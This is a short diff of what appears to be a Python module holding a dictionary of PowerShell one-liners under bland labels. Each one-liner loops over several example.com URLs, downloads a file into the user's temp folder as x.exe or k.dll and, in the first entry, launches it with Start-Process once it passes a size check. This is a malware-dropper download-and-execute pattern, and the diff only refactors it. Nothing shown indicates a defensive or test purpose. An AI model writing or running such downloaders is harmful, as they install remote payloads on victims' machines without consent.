@@ -21,7 +21,8 @@ LIBRARY = (
 OTHERS = {
     "one folder on every host": (
         "$u='http://a.example.com/77g7,http://b.example.com/77g7,http://c.example.com/77g7,http://d.example.com/77g7'.Split(',');"
-        "foreach($i in $u){$p=$env:TEMP+'\\x.exe';try{$w.DownloadFile($i,$p);if((gi $p).length -gt 40000){Start-Process $p;break}}catch{}}"
+        "$p=$env:TEMP+'\\x.exe';"
+        "foreach($i in $u){try{$w.DownloadFile($i,$p);if((gi $p).length -gt 40000){Start-Process $p;break}}catch{}}"
     ),
     "a list for one library": (
         "$u='https://a.example.com/mLp/,https://b.example.com/qT/,https://c.example.com/zz/'.Split(',');$p=$env:TEMP+'\\k.dll';"
